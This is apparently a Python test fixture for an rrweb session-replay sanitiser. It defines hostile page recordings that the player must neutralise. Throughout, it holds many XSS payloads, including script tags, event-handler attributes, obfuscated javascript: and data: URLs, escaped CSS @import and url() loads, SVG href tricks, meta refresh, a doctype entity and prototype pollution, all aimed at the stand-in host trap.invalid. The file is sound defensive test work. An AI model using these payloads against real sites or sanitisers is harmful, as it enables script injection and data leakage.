"""Recordings made to harm whoever watches them. Every address is the trap's: what is asked of it has escaped."""

import html
from typing import Any

from tests.recordings import change, document, element, meta, snapshot, text_node

TRAP = "trap.invalid"
URL = f"http://{TRAP}/x"
ALERT = f"javascript:fetch('{URL}')//{TRAP}"
SET = f"window.top.escaped='{TRAP}'"
SVG = f"<svg xmlns='http://www.w3.org/2000/svg' onload=\"{SET}\"><image href='{URL}'/></svg>"


def page(*nodes: dict[str, Any]) -> list[dict[str, Any]]:
    """A recording of a page with those nodes, which then adds them once more."""
    added = {"parentId": 5, "nextId": None, "node": element("div", *nodes)}
    return [meta(), snapshot(0, document(*nodes)), change(1, texts=[], attributes=[], removes=[], adds=[added])]


def changed(tag: str, **attributes: Any) -> list[dict[str, Any]]:
    """A recording in which an element gets attributes later."""
    named = {name.replace("_", "-").strip("-"): value for name, value in attributes.items()}
    one = {"id": 50, "attributes": named}
    return [
        meta(),
        snapshot(0, document(element(tag, id_=50))),
        change(1, texts=[], attributes=[one], removes=[], adds=[]),
    ]


def styled(css: str) -> list[dict[str, Any]]:
    """A style in every place where one may stand."""
    sheet = element("style", text_node(css, 61), id_=60)
    rule = {"rule": css, "index": 0}
    return [
        meta(),
        snapshot(
            0,
            document(
                element("p", text_node("x"), style=css.strip("p{}")),
                sheet,
                element("link", rel="stylesheet", _cssText=css),
                element("style", _cssText=css),
            ),
        ),
        change(
            1,
            texts=[{"id": 61, "value": css}],
            attributes=[{"id": 5, "attributes": {"style": {"background": css}}}],
            removes=[],
            adds=[{"parentId": 60, "nextId": None, "node": text_node(css)}],
        ),
        change(2, 8, id=60, adds=[rule], removes=[], replace=css),
        change(3, 15, id=1, styleIds=[1], styles=[{"styleId": 1, "rules": [rule]}]),
        change(4, 13, id=60, index=[0], set={"property": "background", "value": css, "priority": ""}),
        change(5, 10, family="x", fontSource=css, buffer=False),
    ]


HOSTILE: dict[str, list[dict[str, Any]]] = {
    "script": page(element("script", text_node(SET)), element("SCRIPT", text_node(SET), src=URL)),
    "svg script": page(
        {**element("svg", {**element("script", text_node(SET), href=URL), "isSVG": True}), "isSVG": True}
    ),
    "namespaced script": page(element("svg:script", text_node(SET))),
    "handlers": page(
        element("img", src="x", onerror=SET, ONLOAD=SET),
        element("body", onpageshow=SET),
        element("details", open=True, ontoggle=SET),
        element("input", autofocus=True, onfocus=SET),
    ),
    "handlers later": changed("div", onclick=SET, onmouseover=SET, OnAnimationStart=SET),
    "links": page(
        *(
            element("a", text_node("x"), href=href)
            for href in (
                ALERT,
                ALERT.replace("java", "JaVa"),
                f" \x01{ALERT}",
                ALERT.replace("script", "\tscr\nipt"),
                html.escape(ALERT),
                ALERT.replace("j", "&#106;"),
                f"data:text/html,<script>{SET}</script>",
                f"vbscript:{TRAP}",
            )
        )
    ),
    "links elsewhere": page(
        element("form", action=ALERT),
        element("button", formaction=ALERT),
        element("iframe", src=ALERT),
        element("area", href=ALERT),
        {**element("svg", {**element("a", **{"xlink:href": ALERT}), "isSVG": True}), "isSVG": True},
    ),
    "srcdoc": page(element("iframe", srcdoc=f"<script>{SET}</script><img src={URL}>")),
    "srcdoc later": changed("iframe", srcdoc=f"<script>{SET}</script>", src=URL),
    "base": [meta(), snapshot(0, document(element("img", src="/x"), head=(element("base", href=URL, target="_top"),)))],
    "refresh": [
        meta(),
        snapshot(
            0,
            document(
                head=(
                    element("meta", http_equiv="refresh", content=f"0;url={URL}"),
                    element("meta", **{"HTTP-EQUIV": "Refresh", "content": f"0;url={URL}"}),
                )
            ),
        ),
    ],
    "refresh later": changed("meta", http_equiv="refresh", content=f"0;url={URL}"),
    "pictures": page(
        element("img", src=URL),
        element("img", srcset=f"{URL} 1x"),
        element("video", poster=URL),
        element("picture", element("source", srcset=URL)),
        element("input", type="image", src=URL),
        element("body", background=URL),
        element("img", rr_dataURL=URL),
        element("img", src=f"//{TRAP}/x"),
        element("image", href=URL),
        element("track", src=URL),
        element("audio", src=URL),
    ),
    "pictures later": changed("img", src=URL, srcset=URL, style=f"background:url({URL})"),
    "documents": page(
        element("object", data=URL),
        element("embed", src=URL),
        element("frame", src=URL),
        element("portal", src=URL),
        element("applet", archive=URL, codebase=URL),
        element("iframe", src=f"data:text/html,{SVG}"),
        element("embed", src=f"data:image/svg+xml,{SVG}"),
    ),
    "sheets": page(
        element("link", rel="stylesheet", href=URL),
        element("link", rel="preload", href=URL, as_="image"),
        element("link", rel="dns-prefetch", href=f"//{TRAP}"),
        element("link", rel="icon", href=URL),
        element("link", rel="modulepreload", href=URL),
        element("link", rel="manifest", href=URL),
    ),
    "drawings": page(
        {
            **element(
                "svg",
                {**element("use", href=f"{URL}#a"), "isSVG": True},
                {**element("image", **{"xlink:href": URL}), "isSVG": True},
                {**element("animate", attributeName="href", values=f"#;{ALERT}", begin="0s"), "isSVG": True},
                {**element("set", attributeName="xlink:href", to=ALERT), "isSVG": True},
                {**element("feImage", href=URL), "isSVG": True},
                {**element("rect", fill=f"url({URL}#g)"), "isSVG": True},
                {**element("foreignObject", element("img", src=URL)), "isSVG": True},
            ),
            "isSVG": True,
        }
    ),
    "import": styled(f"@import '{URL}';"),
    "escaped import": styled(f"@\\69 mport url({URL});"),
    "url": styled(f"p{{background:url({URL})}}"),
    "quoted url": styled(f'p{{background:URL( "{URL}" )}}'),
    "escaped url": styled(f"p{{background:\\75\\72\\6c('{URL}')}}"),
    "half a url": styled(f"p{{background:url({URL}"),
    "font": styled(f"@font-face{{font-family:x;src:url({URL}) format('woff2')}}p{{font-family:x}}"),
    "image-set": styled(f"p{{background:-webkit-image-set(url({URL}) 1x)}}"),
    "canvas": [
        meta(),
        snapshot(0, document(element("canvas", id_=50, rr_dataURL=URL))),
        change(
            1,
            9,
            id=50,
            type=0,
            commands=[
                {
                    "property": "drawImage",
                    "args": [{"rr_type": "HTMLImageElement", "src": URL}, {"rr_type": "WebSocket", "args": [URL]}],
                }
            ],
        ),
    ],
    "console": [
        meta(),
        {
            "type": 6,
            "timestamp": meta()["timestamp"],
            "data": {
                "plugin": "rrweb/console@1",
                "payload": {"level": "log", "trace": [], "payload": [f"<img src={URL}>"]},
            },
        },
    ],
    "odd names": page(
        element(f"img src={URL}"),
        element("div", **{f"x onload={SET}": "1", "a/onclick": SET}),
        {**element("x"), "tagName": f"div><script>{SET}</script>"},
    ),
    "doctype": [
        meta(),
        snapshot(
            0,
            {
                "type": 0,
                "id": 1,
                "childNodes": [
                    {
                        "type": 1,
                        "id": 2,
                        "name": f"html [<!ENTITY x SYSTEM '{URL}'>]",
                        "publicId": "",
                        "systemId": f"'{URL}",
                    },
                    element("html", element("body")),
                ],
            },
        ),
    ],
    "prototype": [meta(), snapshot(0, document(element("div", __proto__={"onclick": SET}, constructor="x")))],
    "frames": [
        meta(),
        snapshot(0, document(element("iframe", id_=50))),
        change(
            1,
            texts=[],
            attributes=[],
            removes=[],
            isAttachIframe=True,
            adds=[
                {
                    "parentId": 50,
                    "nextId": None,
                    "node": {**document(element("script", text_node(SET)), element("img", src=URL)), "id": 90},
                }
            ],
        ),
    ],
}
"""By what they try."""
